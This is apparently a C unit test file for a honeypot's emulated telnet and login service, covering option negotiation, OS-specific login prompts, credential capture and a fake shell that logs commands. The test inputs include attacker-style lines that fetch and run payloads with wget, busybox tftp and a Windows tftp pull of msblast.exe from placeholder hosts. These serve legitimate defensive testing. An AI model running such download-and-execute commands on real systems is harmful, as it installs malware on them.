/*
 * telnet and login through the stack: RFC 854/855 option negotiation
 * (answers that change state only, IAC IAC, bounded subnegotiation with
 * TTYPE and NAWS), login prompts per personality, credentials recorded,
 * and the fake shell's commands recorded and answered, downloaders' URLs
 * included and never fetched.
 */
#include "test_svc.h"

static const char cfg[] =
	S_SENSOR
	"create lin\n"
	"set lin personality \"Linux 2.6.32\"\n"
	"add lin tcp port 23 internal \"telnet\"\n"
	"add lin tcp port 2323 internal \"login\"\n"
	"create win\n"
	"set win personality \"Microsoft Windows 2000 SP4\"\n"
	"add win tcp port 23 internal \"telnet\"\n"
	"create rtr\n"
	"set rtr personality \"Cisco 2600 router (IOS 12.3)\"\n"
	"add rtr tcp port 23 internal \"login\"\n"
	"bind 10.0.0.50 lin\n"
	"bind 10.0.0.51 win\n"
	"bind 10.0.0.52 rtr\n";

#define LIN	"10.0.0.50"
#define WIN	"10.0.0.51"
#define RTR	"10.0.0.52"

#define IAC	"\xff"
#define WILL	"\xfb"
#define WONT	"\xfc"
#define DO	"\xfd"
#define DONT	"\xfe"

static int
setup(void **state)
{
	return h_new(state, cfg);
}

/* Bytes that may hold NULs. */
#define SEND(h, c, lit)	s_send((h), (c), (lit), sizeof(lit) - 1)

static void
test_telnet_negotiates_options_once(void **state)
{
	struct harness *h = *state;
	struct s_conn c;

	s_open(h, &c, LIN, 41000, 23);
	/* netkit's opening, nothing more until the client answers (nmap
	 * calls that "Linux telnetd"). */
	assert_int_equal(c.ngot, 12);
	assert_memory_equal(c.got, IAC DO "\x18" IAC DO "\x20" IAC DO "\x23"
	    IAC DO "\x27", 12);
	/* The answers: then WILL ECHO, SGA, the banner and the prompt; an
	 * asked-for WILL TTYPE gets the SEND subnegotiation, refusals of
	 * what we asked get nothing, a new WILL NAWS a DO, an unknown DO a
	 * WONT, an unknown WILL a DONT. */
	s_reset_got(&c);
	s_sends(h, &c, IAC WILL "\x18" IAC WONT "\x20" IAC WONT "\x23" IAC WONT
	    "\x27" IAC WILL "\x1f" IAC DO "\x05" IAC WILL "\x2a");
	assert_string_equal(s_text(&c), IAC WILL "\x01" IAC WILL "\x03"
	    "Debian GNU/Linux 6.0\r\nlin login: " IAC "\xfa\x18\x01" IAC
	    "\xf0" IAC DO "\x1f" IAC WONT "\x05" IAC DONT "\x2a");
	/* Acks of our offers are not answered, nor are repeats: no loop. */
	s_reset_got(&c);
	s_sends(h, &c, IAC DO "\x01" IAC DO "\x03" IAC DO "\x01" IAC WILL
	    "\x18" IAC WILL "\x1f");
	assert_int_equal(c.ngot, 0);
	/* TTYPE IS xterm, NAWS 80x24, IAC IAC inside a subnegotiation. */
	SEND(h, &c, IAC "\xfa\x18\x00xterm" IAC "\xf0" IAC "\xfa\x1f\x00"
	    "\x50\x00\x18" IAC "\xf0" IAC "\xfa\x05" IAC IAC "x" IAC "\xf0");
	/* We echo, the client does not. */
	s_say(h, &c, "root\r\n", "root\r\nPassword: ");
	s_say(h, &c, "hunter2\r\n", "root@lin:~# ");
	assert_field(s_svc_ev(h, "login", 0), "user", "root");
	assert_field(s_svc_ev(h, "login", 0), "password", "hunter2");
	assert_field(s_svc_ev(h, "login", 0), "term", "xterm");
	assert_field(s_svc_ev(h, "login", 0), "window", "80x24");
	/* DONT ECHO: we stop echoing, and say so. */
	s_reset_got(&c);
	s_sends(h, &c, IAC DONT "\x01");
	assert_memory_equal(c.got, IAC WONT "\x01", 3);
	s_say(h, &c, "whoami\r\n", "root\r\nroot@lin:~# ");
}

static void
test_telnet_shell_records_and_answers_commands(void **state)
{
	struct harness *h = *state;
	const struct event *e;
	struct s_conn c;

	s_open(h, &c, LIN, 41001, 2323);
	/* login: no negotiation, no echo. */
	assert_string_equal(s_text(&c), "Debian GNU/Linux 6.0\r\nlin login: ");
	s_say(h, &c, "admin\r\n", "Password: ");
	s_say(h, &c, "admin\r\n", "admin@lin:~$ ");
	s_say(h, &c, "uname -a\r\n", "Linux lin 2.6.32-5-686 #1 SMP");
	s_say(h, &c, "id\n", "uid=1000(admin) gid=1000(admin)");
	s_say(h, &c, "cat /proc/cpuinfo\r\n", "model name\t: Intel");
	s_say(h, &c, "cd /tmp; wget http://198.51.100.7/x.sh -O x.sh && sh x.sh"
	    "\r\n", "wget: unable to resolve host address");
	e = s_svc_ev(h, "command", 4);
	assert_string_equal(e->u.service.service, "login");
	assert_field(e, "program", "wget");
	assert_field(e, "url", "http://198.51.100.7/x.sh");
	assert_field(e, "command", " wget http://198.51.100.7/x.sh -O x.sh ");
	assert_field(s_svc_ev(h, "command", 5), "program", "sh");
	s_say(h, &c, "/bin/busybox tftp -g -r bins.mips 198.51.100.8; "
	    "curl -O example.org/a\r\n", "tftp: timeout");
	assert_field(s_svc_ev(h, "command", 6), "url",
	    "tftp://198.51.100.8/bins.mips");
	assert_field(s_svc_ev(h, "command", 7), "url", "http://example.org/a");
	s_say(h, &c, "nosuch\r\n", "-bash: nosuch: command not found");
	s_reset_got(&c);
	s_sends(h, &c, "exit\r\n");
	assert_int_equal(c.fin, 1);
	assert_int_equal(s_count_svc(h, "command"), 10);
}

static void
test_telnet_windows_and_router_flavours(void **state)
{
	struct harness *h = *state;
	struct s_conn c;

	s_open(h, &c, WIN, 41002, 23);
	s_assert_has(&c, "Welcome to Microsoft Telnet Service \r\n\r\nlogin: ");
	s_say(h, &c, "Administrator\r\n", "password: ");
	s_say(h, &c, "\r\n", "C:\\Documents and Settings\\Administrator>");
	s_say(h, &c, "ver\r\n", "Microsoft Windows 2000 [Version 5.00.2195]");
	s_say(h, &c, "tftp -i 192.0.2.9 GET msblast.exe\r\n",
	    "Connect request failed");
	assert_field(s_svc_ev(h, "command", 1), "url",
	    "tftp://192.0.2.9/msblast.exe");
	assert_field(s_svc_ev(h, "login", 0), "password", "");
	s_open(h, &c, RTR, 41003, 23);
	assert_string_equal(s_text(&c), "\r\n\r\nUser Access Verification\r\n"
	    "\r\nUsername: ");
	s_say(h, &c, "cisco\r\n", "Password: ");
	s_say(h, &c, "cisco\r\n", "rtr>");
	s_say(h, &c, "show version\r\n", "IOS (tm) C2600 Software");
	s_say(h, &c, "foo\r\n", "% Unknown command");
}

static void
test_telnet_line_editing_and_bounds(void **state)
{
	struct harness *h = *state;
	char big[2000];
	struct s_conn c;

	s_open(h, &c, LIN, 41004, 2323);
	/* Backspace, CR NUL, and an IAC IAC that is a 0xff in the text. */
	s_say(h, &c, "roox\x7ft\r", "Password: ");
	SEND(h, &c, "\0pw" IAC IAC "\r\n");
	assert_field(s_svc_ev(h, "login", 0), "user", "root");
	assert_field(s_svc_ev(h, "login", 0), "password", "pw\xef\xbf\xbd");
	/* A line past the bound is cut, never overflows. */
	memset(big, 'a', sizeof(big));
	s_send(h, &c, big, 1400);
	s_send(h, &c, big, sizeof(big) - 1400);
	s_say(h, &c, "\r\n", "command not found");
	/* A subnegotiation that never ends stays bounded. */
	s_sends(h, &c, IAC "\xfa\x18");
	s_send(h, &c, big, 1400);
	assert_int_equal(stack_counter(h->st, "service_leaks"), 0);
}

int
main(void)
{
#define T(f)	cmocka_unit_test_setup_teardown(f, setup, h_delete)
	const struct CMUnitTest tests[] = {
		T(test_telnet_negotiates_options_once),
		T(test_telnet_shell_records_and_answers_commands),
		T(test_telnet_windows_and_router_flavours),
		T(test_telnet_line_editing_and_bounds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
